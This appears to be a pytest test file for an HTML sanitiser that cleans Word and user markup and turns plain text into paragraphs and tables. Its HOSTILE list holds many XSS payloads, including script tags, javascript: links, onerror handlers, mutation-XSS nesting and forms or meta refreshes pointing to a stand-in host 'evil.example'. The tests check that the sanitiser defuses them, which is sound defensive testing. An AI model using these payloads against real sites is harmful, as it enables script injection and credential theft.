"""What may stand in a document: hostile markup, Word's markup, and text that is hardly HTML."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policies import html

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr<o:p>ipt>alert(1)</scr</o:p>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) style='position:fixed' class=x id=y>甲</p>",
    "<a href=javascript:alert(1)>甲</a>",
    "<a href='java\nscript:alert(1)'>甲</a>",
    "<a href='&#106;avascript:alert(1)'>甲</a>",
    "<a href=' javascript:alert(1)'>甲</a>",
    "<a href=vbscript:msgbox(1)>甲</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>甲</a>",
    "<a href='http://x.example' onmouseover=alert(1) target=_blank>甲</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>甲</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<iframe src=http://evil.example></iframe><object data=x></object><embed src=x>",
    "<form action=http://evil.example><input name=password><button>送</button></form>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<!--[if gte mso 9]><xml><w:WordDocument>secret</w:WordDocument></xml><![endif]-->",
    "<![if !supportLists]><script>alert(1)</script><![endif]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>甲</details>",
    "<video><source onerror=alert(1)></video>",
    "<td background=javascript:alert(1)>甲</td>",
    "<table><tr><td colspan='1 onmouseover=alert(1)'>甲</td></tr></table>",
    "<p>甲</p" + "\x00" + "><script\x00>alert(1)</script>",
    "<" * 500 + "script>",
]
TAG = re.compile(r"</?([a-zA-Z0-9:]+)((?:\s[^<>]*)?)>")


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_markup_comes_out_harmless(markup):
    once = html.clean(markup)
    # What a browser reads of it, also after we wrote it anew.
    for cleaned in (once, html.write(html.parse(once))):
        for name, attributes in TAG.findall(cleaned):
            assert name in html.TAGS, cleaned
            for attribute in re.findall(r'([^\s=]+)="', attributes):
                assert attribute in ("href", "rel", "colspan", "rowspan"), cleaned
        bare = re.sub("&lt;.*?&gt;", "", cleaned).lower()
        assert "javascript" not in bare
        assert "vbscript" not in bare
        assert "secret" not in bare
        assert not re.search(r"<[^<>]*\son\w+=", bare)
    assert html.clean(once) == once


@given(st.text(alphabet="<>/=\"' &;abpsctrdivxml:!-[]?甲\n\x00\x0b\ud800", max_size=200))
def test_cleaning_never_raises_and_changes_nothing_twice(markup):
    cleaned = html.clean(markup)
    assert html.clean(cleaned) == cleaned
    html.write(html.parse(cleaned))


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("<p>甲</p>", "<p>甲</p>"),
        ("<p>甲<o:p></o:p></p>", "<p>甲</p>"),
        ("<p class=MsoNormal style='mso-x:1'><span lang=EN-US>甲</span></p>", "<p>甲</p>"),
        ("<b>甲</b><i>乙</i>", "<p><strong>甲</strong><em>乙</em></p>"),
        ("甲<br>乙", "<p>甲</p>\n<p>乙</p>"),
        ("甲<p>乙</p>丙", "<p>甲</p>\n<p>乙</p>\n<p>丙</p>"),
        ("<div>甲<div>乙</div>丙</div>", "<p>甲</p>\n<p>乙</p>\n<p>丙</p>"),
        ("<div><strong>甲</strong>乙</div>", "<p><strong>甲</strong>乙</p>"),
        ("<p>&nbsp;</p><p>　</p><p>甲</p>", "<p>甲</p>"),
        ("<blockquote>甲</blockquote>", "<blockquote><p>甲</p></blockquote>"),
        ("<blockquote><p>甲</p>乙</blockquote>", "<blockquote><p>甲</p><p>乙</p></blockquote>"),
        ("<p>甲<p>乙", "<p>甲</p>\n<p>乙</p>"),
        ("<td>甲</td>", "<p>甲</p>"),
        ("a < b & c", "<p>a &lt; b &amp; c</p>"),
        ("", ""),
        (" \n ", ""),
        ("<!-- 无 -->", ""),
        (
            "<table><tr><td colspan=2>甲</td><td rowspan=x>乙</td><td colspan=99999>丙</td></tr></table>",
            '<table><tbody><tr><td colspan="2">甲</td><td>乙</td><td>丙</td></tr></tbody></table>',
        ),
        ('<p><a href="#article-5">甲</a></p>', '<p><a href="#article-5" rel="noopener external">甲</a></p>'),
        ("<h1>甲</h1><h5>乙</h5>", "<h1>甲</h1>\n<h5>乙</h5>"),
    ],
)
def test_text_comes_in_blocks(markup, expected):
    assert html.write(html.parse(html.clean(markup))) == expected


@pytest.mark.parametrize("character", ["\x00", "\x0b", "\x1f", "\x7f", "\ud800", "\ufffe"])
def test_characters_no_page_can_hold_are_left_out(character):
    assert html.clean(f"<p>甲{character}乙</p>") == "<p>甲乙</p>"


@pytest.mark.parametrize("tag", ["strong", "span", "blockquote", "div", "sup"])
def test_five_thousand_nested_elements_lose_no_text(tag):
    markup = f"<{tag}>" * 5000 + "深处" + f"</{tag}>" * 5000 + "<p>其后</p>"
    root = html.parse(html.clean(markup))
    assert [html.text_of(child) for child in root] == ["深处", "其后"]


def test_nesting_people_use_is_kept():
    markup = "<ul><li>甲<ul><li>乙</li></ul></li></ul>"
    assert html.clean(markup) == markup


@pytest.mark.parametrize(
    "markup", ["<a:" * 1_000_000, "<p " * 1_000_000, "<" * 3_000_000, "<p>" + "字" * 2_999_000, "<p>字</p>" * 350_000]
)
def test_three_million_characters_are_read_in_seconds(markup):
    start = time.process_time()
    html.parse(html.clean(markup))
    html.looks_like_html(markup)
    assert time.process_time() - start < 20


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>甲<br>乙</p>", "甲 乙"),
        ("<p>  甲\n\t乙 </p>", "甲 乙"),
        ("<p>甲<strong>乙</strong>丙</p>", "甲乙丙"),
        ("<table><tr><td>甲</td><th>乙</th></tr><tr><td>丙</td></tr></table>", "甲 乙 丙"),
        ("<ul><li>甲<ul><li>乙</li></ul></li></ul>", "甲 乙"),
    ],
)
def test_text_of_an_element(markup, text):
    assert html.text_of(html.parse(markup)) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("甲\n\n  乙  ", "<p>甲</p>\n<p>乙</p>"),
        ("a < b & \"c\"", "<p>a &lt; b &amp; &quot;c&quot;</p>"),
        ("", ""),
        (
            "| 校 | 范围 |\n| 一小 | <东> |",
            "<table><thead><tr><th>校</th><th>范围</th></tr></thead><tbody>\n<tr><td>一小</td><td>&lt;东&gt;</td></tr>\n</tbody></table>",
        ),
        ("前\n|甲|\n后", "<p>前</p>\n<table><thead><tr><th>甲</th></tr></thead><tbody>\n</tbody></table>\n<p>后</p>"),
        (
            "|甲|乙|\n|丙|",
            "<table><thead><tr><th>甲</th><th>乙</th></tr></thead><tbody>\n<tr><td>丙</td><td></td></tr>\n</tbody></table>",
        ),
        ("|", "<p>|</p>"),
    ],
)  # fmt: skip
def test_plain_text_becomes_paragraphs_and_tables(text, expected):
    assert html.from_text(text) == expected


@given(st.text(max_size=200))
def test_plain_text_is_clean_html_that_says_the_same(text):
    assert (
        html.text_of(html.parse(html.clean(html.from_text(text)))).replace(" ", "")
        == "".join(html.printable(text).replace("|", "").split())
        or "|" in text
    )


@pytest.mark.parametrize(
    ("text", "is_html"),
    [("<p>甲</p>", True), ("<P align=center>甲", True), ("<table>", True), ("甲<br/>乙", True), ("a < b", False),
     ("<书名>", False), ("《甲》", False), ("<pre>", False), ("", False)],
)  # fmt: skip
def test_html_is_told_from_plain_lines(text, is_html):
    assert html.looks_like_html(text) is is_html
